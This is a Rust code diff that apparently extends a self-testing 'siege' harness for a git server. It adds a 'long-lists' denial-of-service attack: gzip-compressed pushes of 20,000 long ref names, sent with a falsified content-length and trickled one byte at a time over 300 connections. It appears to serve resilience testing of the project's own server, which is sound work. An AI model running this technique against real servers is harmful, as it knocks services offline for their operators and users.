@@ -14,6 +14,9 @@ use crate::siege::attack::Route;
 use crate::siege::attack::side_by_side;
 use crate::siege::attacker::Attacker;
 use crate::siege::attacker::Command;
+use crate::siege::attacker::Request;
+use crate::siege::attacker::push_body;
+use crate::siege::attacks::http::gzip;
 use crate::siege::own_repository::OwnRepository;
 use crate::siege::own_repository::address_of;
 use crate::siege::own_repository::random_id;
@@ -51,6 +54,14 @@ pub(super) const ATTACKS: &[Attack] = &[
         worlds: BOTH,
         route: Route::Direct,
         prepare: |attacker| Box::pin(many_commands(attacker)),
+    },
+    Attack {
+        name: "long-lists",
+        does: "pushes of 20,000 commands with long names as gzip, which do not end, on 300 connections by a proxy",
+        costs: "100 KB a push, and then a byte a second",
+        worlds: BOTH,
+        route: Route::TrustedProxy,
+        prepare: |attacker| Box::pin(long_lists(attacker)),
     },
     Attack {
         name: "bad-packs",
@@ -136,6 +147,42 @@ async fn many_commands(attacker: Attacker) -> Assault {
             async move {
                 loop {
                     attacker.push(&attacker.victim.path, &commands, b"").await;
+                    tokio::time::sleep(PAUSE).await;
+                }
+            }
+        })
+        .await;
+    })
+}
+
+async fn long_lists(attacker: Attacker) -> Assault {
+    let name = "long/".repeat(20);
+    let commands: Vec<_> = (0..20_000)
+        .map(|number| Command::update(None, &format!("{number:040x}"), &format!("refs/heads/{name}{number}")))
+        .collect();
+    let body = gzip(&push_body(&commands, b"")).await;
+    let length = body.len();
+    let mut request = Request::service(
+        &attacker.victim.path,
+        "git-receive-pack",
+        "content-encoding: gzip\r\n",
+        body,
+    );
+    let told = format!("content-length: {length}\r\n");
+    request.fields = request
+        .fields
+        .replace(&told, &format!("content-length: {}\r\n", length + 1000));
+    Box::pin(async move {
+        side_by_side(300, |_| {
+            let (attacker, request) = (attacker.clone(), request.clone());
+            async move {
+                loop {
+                    if let Some(mut socket) = attacker.begin(None, &request).await {
+                        while attacker.write(&mut socket, b"x").await.is_some() {
+                            tokio::time::sleep(5 * PAUSE).await;
+                        }
+                        attacker.effort.answered("cut off");
+                    }
                     tokio::time::sleep(PAUSE).await;
                 }
             }
